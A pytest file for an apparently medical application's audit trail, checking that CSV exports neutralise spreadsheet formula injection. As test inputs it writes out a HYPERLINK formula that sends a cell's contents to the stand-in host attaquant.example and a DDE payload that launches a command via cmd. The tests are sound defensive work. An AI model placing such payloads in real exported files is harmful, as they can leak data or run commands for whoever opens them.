"""Issue 11: every CSV meant for a spreadsheet neutralises formulas (a user name typed on the
login page as `=HYPERLINK(…)` must come out as text)."""

from __future__ import annotations

import csv
import io

import pytest

from chemo_fallback import audit, audit_trail
from chemo_fallback.spreadsheet import safe_cell


@pytest.mark.parametrize(
    "typed", ['=HYPERLINK("http://x/?"&A1;"clic")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]
)
def test_a_formula_start_becomes_text(typed: str) -> None:
    assert safe_cell(typed) == "'" + typed


@pytest.mark.parametrize("kept", ["-20,5", "-20,5 %", "+3", "Dupont", "", 12, None, "a=b"])
def test_numbers_and_plain_text_are_kept(kept) -> None:
    assert safe_cell(kept) == kept


def test_the_audit_csv_neutralises_a_typed_user_name(store) -> None:
    typed = '=HYPERLINK("http://attaquant.example/?"&A1;"Cliquez")'
    with store.transaction() as cur:
        audit.record(cur, audit.Actor(typed, "anonymous"), "login_failed", "user", typed,
                     reason="-1+cmd|' /C calc'!A0")
    admin = audit.Actor("admin", "admin")
    rows = audit_trail.search(store, admin, audit_trail.AuditFilter())
    data = audit_trail.to_csv(rows).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(data), delimiter=";") for c in row]
    assert not any(c.startswith(("=", "+", "-", "@")) and not c[1:2].isdigit() for c in cells)
    assert "'" + typed in cells
    assert "'-1+cmd|' /C calc'!A0" in cells
